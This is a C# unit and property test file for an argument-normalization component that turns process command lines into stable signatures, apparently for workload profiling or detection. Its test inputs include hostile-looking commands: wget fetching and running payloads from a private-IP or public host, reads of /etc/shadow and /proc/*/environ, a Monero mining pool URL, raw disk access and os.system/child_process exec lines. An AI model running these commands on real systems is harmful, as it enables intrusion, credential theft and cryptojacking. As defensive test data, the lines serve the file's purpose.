using FsCheck;
using FsCheck.Fluent;
using FsCheck.Xunit;
using WorkloadProfiles.Domain.Identity;

namespace WorkloadProfiles.Domain.Tests;

public class ArgumentSignatureTests
{
    [Theory]
    [InlineData("3333", "*")]
    [InlineData("-5", "*")]
    [InlineData("1.5", "*")]
    [InlineData("0x7fff1234", "*")]
    [InlineData("123e4567-e89b-12d3-a456-426614174000", "*")]
    [InlineData("deadbeefcafe0001", "*")]
    [InlineData("job-20240101", "job-*")]
    [InlineData("v2", "v2")]
    [InlineData("-q", "-q")]
    [InlineData("/tmp/upload-12345.bin", "/tmp/upload-*.bin")]
    [InlineData("/proc/4242/environ", "/proc/*/environ")]
    [InlineData("//etc//shadow", "/etc/shadow")]
    [InlineData("127.0.0.1", "loopback")]
    [InlineData("10.9.9.9:4444", "private:4444")]
    [InlineData("203.0.113.7", "public")]
    [InlineData("[::1]:8080", "loopback:8080")]
    [InlineData("fe80::1", "link-local")]
    [InlineData("10.0.0.0/8", "private/*")]
    [InlineData("http://Example.COM/a/1234/b?token=secret#frag", "http://example.com/a/*/b")]
    [InlineData("https://user:pw@api.internal:8443/v1/items/9f8e7d6c5b4a3f2e1d0c", "https://api.internal:8443/v1/items/*")]
    [InlineData("http://10.9.9.9:4444/payload.sh", "http://private:4444/payload.sh")]
    [InlineData("stratum+tcp://pool.minexmr.com:4444", "stratum+tcp://pool.minexmr.com:4444/")]
    [InlineData("--output=/tmp/out-9999.log", "--output=/tmp/out-*.log")]
    [InlineData("--url=http://Evil.example/x", "--url=http://evil.example/x")]
    [InlineData("if=/dev/sda", "if=/dev/sda")]
    [InlineData("12:30", "12:30")]
    public void An_argument_is_normalized_as_specified(string argument, string expected)
    {
        Assert.Equal(expected, ArgumentSignature.NormalizeArgument(argument));
        Assert.Equal(expected, ArgumentSignature.NormalizeArgument(expected));
    }

    [Fact]
    public void The_signature_starts_after_argv0_or_after_the_busybox_applet()
    {
        Assert.Equal("-q -O /tmp/p http://private:4444/payload.sh",
            ArgumentSignature.Of("/bin/busybox", ["wget", "-q", "-O", "/tmp/p", "http://10.9.9.9:4444/payload.sh"]));
        Assert.Equal(ArgumentSignature.Of("/bin/busybox", ["wget", "-q", "http://a/1"]),
            ArgumentSignature.Of("/bin/busybox", ["busybox", "wget", "-q", "http://a/1"]));
        Assert.Equal("", ArgumentSignature.Of("/usr/sbin/nginx", ["nginx"]));
        Assert.Equal("", ArgumentSignature.Of("/usr/sbin/nginx", []));
    }

    [Fact]
    public void Inline_code_is_tokenized_and_each_word_normalized_so_another_script_is_another_signature()
    {
        var health = ArgumentSignature.Of("/bin/busybox", ["sh", "-c", "wget -q -O /dev/null http://127.0.0.1:8080/health?ts=1700000000"]);
        Assert.Equal("-c 'wget -q -O /dev/null http://loopback:8080/health'", health);
        Assert.Equal(health, ArgumentSignature.Of("/bin/busybox", ["sh", "-c", "wget  -q -O /dev/null 'http://127.0.0.1:8080/health?ts=1700000042'"]));
        Assert.NotEqual(health, ArgumentSignature.Of("/bin/busybox", ["sh", "-c", "wget -q -O /tmp/x http://203.0.113.7/x; chmod +x /tmp/x; /tmp/x"]));
        Assert.Equal("-c 'cat /tmp/in-* | md5sum > /tmp/out.log'", ArgumentSignature.Of("/bin/bash", ["bash", "-c", "cat /tmp/in-12345 |md5sum>/tmp/out.log"]));
        // Other languages' code is split by the same shell rules: crude, but deterministic, and another payload differs.
        Assert.Equal("-c 'import os ; os.system ( id )'", ArgumentSignature.Of("/usr/bin/python3", ["python3", "-c", "import os; os.system('id')"]));
        Assert.Equal("-e 'require ( child_process ) .exec ( id )'", ArgumentSignature.Of("/usr/bin/node", ["node", "-e", "require(\"child_process\").exec(\"id\")"]));
    }

    [Fact]
    public void An_oversized_argv_is_bounded_by_a_marker_that_tells_different_rests_apart()
    {
        var many = Enumerable.Range(0, 10_000).Select(i => $"arg-{i}").Prepend("tool").ToArray();
        var signature = ArgumentSignature.Arguments("/usr/bin/tool", many);
        Assert.Equal(ArgumentSignature.MaxArguments, signature.Count);
        Assert.StartsWith("⟨+", signature[^1], StringComparison.Ordinal);
        Assert.True(ArgumentSignature.Of("/usr/bin/tool", many).Length <= ArgumentSignature.MaxLength);
        var other = many.ToArray();
        other[^1] = "http://evil.example/payload";
        Assert.NotEqual(ArgumentSignature.Of("/usr/bin/tool", many), ArgumentSignature.Of("/usr/bin/tool", other));

        var huge = new string('a', 1 << 20);
        var bounded = ArgumentSignature.Of("/bin/sh", ["sh", "-c", huge]);
        Assert.True(bounded.Length <= ArgumentSignature.MaxLength, $"{bounded.Length} characters");
        Assert.NotEqual(bounded, ArgumentSignature.Of("/bin/sh", ["sh", "-c", huge + "b"]));
        var longWords = Enumerable.Repeat(new string('x', 900), 5).Prepend("tool").ToArray();
        Assert.True(ArgumentSignature.Of("/usr/bin/tool", longWords).Length <= ArgumentSignature.MaxLength);
    }

    /// <summary>Arguments built from what the rules care about: numbers, hex, uuids, addresses, urls, paths, options, quotes, operators.</summary>
    private static Arbitrary<string[]> Argvs()
    {
        var piece = Gen.OneOf(
            Gen.Elements("-q", "-O", "--url=", "x=", "/tmp/", "./a", "../b", "~/c", "http://", "https://A.example:8443/", "?q=1", "#f",
                "127.0.0.1", "10.9.9.9:4444", "[::1]:80", "fe80::1", "/24", ";", "&&", "|", ">", "'", "\"", "\\", " ", "\n", "*",
                "⟨+", "⟩", "deadbeef00", "123e4567-e89b-12d3-a456-426614174000", "0x1f", "-", "."),
            Gen.Choose(0, 99_999).Select(n => n.ToString(System.Globalization.CultureInfo.InvariantCulture)),
            Gen.ArrayOf(Gen.Elements("aZ9-_.:/=@".ToCharArray())).Select(cs => new string(cs)));
        var argument = Gen.ListOf(piece).Select(p => string.Concat(p));
        return (from program in Gen.Elements("/bin/busybox", "/bin/sh", "/usr/bin/python3", "/usr/bin/curl")
                from applet in Gen.Elements("sh", "wget", "busybox")
                from inline in Gen.Elements(new[] { "-c" }, [], ["-x"])
                from rest in Gen.ListOf(argument)
                select new[] { applet }.Concat(inline).Concat(rest).Prepend(program).ToArray()).ToArbitrary();
    }

    [Property(MaxTest = 5_000)]
    public Property A_signature_is_idempotent_and_bounded() =>
        Prop.ForAll(Argvs(), argv =>
        {
            var exe = argv[0];
            var args = argv[1..];
            var arguments = ArgumentSignature.Arguments(exe, args);
            var (first, _) = ProcessKeys.ArgumentLayout(exe, args);
            var again = ArgumentSignature.Arguments(exe, [.. args.Take(first), .. arguments]);
            var text = ArgumentSignature.Join(arguments);
            return (again.SequenceEqual(arguments) && text.Length <= ArgumentSignature.MaxLength && arguments.Count <= ArgumentSignature.MaxArguments)
                .Label($"{string.Join(" | ", args)} → {text} → {ArgumentSignature.Join(again)}");
        });

    [Property(MaxTest = 5_000)]
    public Property Normalizing_an_argument_is_idempotent() =>
        Prop.ForAll(Argvs(), argv => argv.All(a => ArgumentSignature.NormalizeArgument(ArgumentSignature.NormalizeArgument(a)) == ArgumentSignature.NormalizeArgument(a)));
}
